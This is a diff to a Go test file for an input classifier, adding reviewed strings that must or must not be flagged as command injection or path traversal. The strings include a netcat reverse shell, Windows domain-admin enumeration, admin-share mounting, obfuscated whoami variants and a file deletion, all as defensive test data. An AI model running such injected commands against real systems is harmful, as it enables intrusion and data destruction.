@@ -289,7 +289,7 @@ func TestPathTraversalWithoutSeparator(t *testing.T) {
 // TestCommandWordSets: the word commands that need less than an argument
 // are word commands.
 func TestCommandWordSets(t *testing.T) {
-	for _, set := range []*foldSet{aloneCommands, numberCommands} {
+	for _, set := range []*foldSet{aloneCommands, numberCommands, netTools, interpreters} {
 		for _, w := range set.slots {
 			if w != "" {
 				assert.True(t, wordCommands.hasFold(w), w)
@@ -298,7 +298,7 @@ func TestCommandWordSets(t *testing.T) {
 	}
 }
 
-// TestReviewedValues: the values two reviews of the command, path and
+// TestReviewedValues: the values three reviews of the command, path and
 // prototype checks found missed or flagged, each as it must be now.
 func TestReviewedValues(t *testing.T) {
 	for v, want := range map[string]Class{
@@ -329,6 +329,24 @@ func TestReviewedValues(t *testing.T) {
 		"\xc0%ae\xc0%ae/x": PathTraversal,
 		// Prototype paths.
 		"constructor/prototypes": None, "/constructor/prototype/x": PrototypePollution,
+		// A third review.
+		"& net group \"Domain Admins\" /domain": CommandInjection, "& net view \\\\dc01": CommandInjection,
+		"& net use Z: \\\\10.0.0.5\\c$": CommandInjection, "& net accounts": CommandInjection, "& net stop x": CommandInjection,
+		"; who$@ami": CommandInjection, "; ls$@ -la": CommandInjection, "; source x.sh": CommandInjection,
+		"& C:\\Users\\Public\\nc.exe -e cmd.exe 10.0.0.1 4444": CommandInjection, "& C:/Users/Public/evil.exe": CommandInjection,
+		"| c:\\windows\\temp\\x.bat": CommandInjection, "; id 2>&1": CommandInjection, "; ls 2>/dev/null": CommandInjection,
+		";{ls,-la}": CommandInjection, ";aaaaaaaaaaaaaaaaaaaaaaaaa.e\"x\"e": CommandInjection, "; w'h'o'a'm'i": CommandInjection,
+		"; echo >/tmp/x": CommandInjection, "; rm *.log": CommandInjection,
+		"Visit \"Shoes & More\" today": None, "Store: 'Shoes & More'": None, "Upload \"Photo & ID\"": None,
+		"Menu: \"Home | More\"": None, "Rock & Roll; Time'll tell": None, "Shoes & More ...": None,
+		"Home > Shoes & More > Sale": None, "Price & Time < 30 min": None, "Date & Time *": None,
+		"Name | File(s) | Size": None, "Date | Time(s)": None, "Date;Open;High;Low;Close;Vol": None,
+		"Inicio | Ver | Contacto": None, "Name;Size;Dir": None, "Issue 4 | Vol": None,
+		"Eat; Sleep 8 hours; Repeat": None, "Settings | Timeout 30 s": None, "Walk | Route 2.5 km": None,
+		"Dinner & Host 7:30pm": None, "Bus | Route U.S. 1": None, "Party & Host e.g. Tom": None,
+		"Golf | Ping G430 & Ping 2.0": None,
+		"see https://github.com/.../": None, "Home/.../": None, "/.../.../.../": PathTraversal,
+		"2018-02-12T00:00:00Z/..": None, "../2018-03-18T12:31:12Z": None, "1985-04-12/..": None, "x/..": PathTraversal,
 	} {
 		assert.Equal(t, want, String(v), "%q", v)
 	}
